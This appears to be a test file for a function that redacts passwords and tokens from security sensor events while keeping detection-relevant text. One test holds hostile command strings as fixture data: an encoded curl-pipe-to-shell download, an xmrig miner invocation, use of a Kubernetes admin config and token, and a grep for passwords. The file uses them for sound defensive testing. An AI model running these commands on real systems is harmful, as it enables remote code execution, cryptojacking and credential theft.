import { randomBytes } from 'node:crypto';

import type { JsonObject } from '@tidewaiter/domain';
import { valueFingerprints } from '@tidewaiter/secrets';

import { redactEvent } from './redact-event.js';

const key = Buffer.alloc(32, 7);
const fingerprintOf = valueFingerprints(key)!.of;
const letters = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789';
const random = (length: number, alphabet = letters) =>
  Array.from(randomBytes(length), (byte) => alphabet[byte % alphabet.length]).join('');

const password = `Qz${random(8)}7k`;
const opaque = random(40);
const github = `ghp_${random(36)}`;

/** Events as sensors send them, each with one secret. */
const events: readonly (readonly [what: string, event: JsonObject, secret: string])[] = [
  [
    'an option that stands apart from its program',
    { process_exec: { process: { binary: '/usr/bin/mysql', arguments: `-u root -p${password} shop` } } },
    password,
  ],
  ['a user of curl', { output_fields: { 'proc.cmdline': `curl -u admin:${password} http://a.b` } }, password],
  ['a header without quotation marks', { cmdline: `curl -H Authorization: Bearer ${opaque} https://a.b` }, opaque],
  ['a variable of a pod', { spec: { containers: [{ env: [{ name: 'DB_PASSWORD', value: password }] }] } }, password],
  ['an argument behind its option', { args: ['--password', password, 'run'] }, password],
  ['an argument of several words', { args: ['--password', `${password} ${password}`] }, `${password} ${password}`],
  ['a command apart from its arguments', { command: ['sshpass'], args: ['-p', password, 'ssh', 'a@b'] }, password],
  ['the command of an exec request', { requestURI: `/exec?command=mysql&command=-p${password}&stdin=true` }, password],
  ['a query that is encoded', { uri: `/login?password=${encodeURIComponent(`${password}&/+`)}` }, `${password}&/+`],
  ['a member by its name', { requestParameters: { masterUserPassword: password } }, password],
  ['JSON within a text', { body: JSON.stringify({ user: 'a', password }) }, password],
  ['a token in a name', { labels: { [github]: 'x' } }, github],
  ['a token in the user’s agent', { userAgent: `deploy/1.0 ${github}` }, github],
  [
    'a JSON patch',
    { requestObject: [{ op: 'add', path: '/spec/env/-', value: { name: 'A', value: opaque } }] },
    opaque,
  ],
];

describe('redactEvent', () => {
  it.each(events)('masks %s', (_, event, secret) => {
    const redacted = redactEvent(event, key);
    const text = JSON.stringify(redacted.event);
    for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64')])
      expect(text).not.toContain(form);
  });

  it.each(['flask-sqlalchemy-session-manager', 'deploy/task-scheduler-worker-7d9f8c6b54-x2x9k'])(
    'keeps the name %s, which begins like no key of a language model',
    (name) => {
      expect(redactEvent({ cmdline: `install ${name}` }, key)).toEqual({
        event: { cmdline: `install ${name}` },
        secrets: [],
      });
    },
  );

  it('names a secret by the fingerprint that it has in an image', () => {
    const { event, secrets } = redactEvent({ a: `curl -u x:${password} b`, b: `again ${password}` }, key);
    expect(secrets).toMatchObject([{ fingerprint: fingerprintOf(password) }]);
    expect(event['b']).toBe(`again ${secrets[0]?.masked}`);
  });

  it('keeps what rules match on', () => {
    const commands = [
      `sh -c "echo ${Buffer.from('curl http://203.0.113.4/x | sh').toString('base64')} | base64 -d | sh"`,
      `xmrig -o stratum+tcp://pool.example.net:3333 -u 4${random(94)} -p x`,
      'kubectl create -f /etc/kubernetes/admin.conf --token-file /run/secrets/token',
      `/usr/bin/docker pull shop/app@sha256:${random(64, '0123456789abcdef')}`,
      'grep -r password /etc /home',
      'PWD=/root HOME=/root env',
    ];
    const event = { commands };
    expect(redactEvent(event, key).event).toEqual(event);
  });

  it('keeps the first and the last four characters of the key that signed a call', () => {
    const id = `AKIA${random(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`;
    const { event, secrets } = redactEvent({ userIdentity: { accessKeyId: id } }, key);
    expect(event).toEqual({ userIdentity: { accessKeyId: `AKIA${'*'.repeat(12)}${id.slice(-4)}` } });
    expect(secrets).toMatchObject([{ fingerprint: fingerprintOf(id) }]);
  });

  it('masks a secret behind more places than one search tries', () => {
    const { event } = redactEvent({ noise: 'token=x '.repeat(40_000), command: `mysql -p${password}` }, key);
    expect(JSON.stringify(event)).not.toContain(password);
  });

  it('drops the values of variables of containers, whatever they hold', () => {
    expect(redactEvent({ env: [{ name: 'MODE', value: 'fast' }] }, key).event).toEqual({
      env: [{ name: 'MODE', value: '[redacted]' }],
    });
  });
});
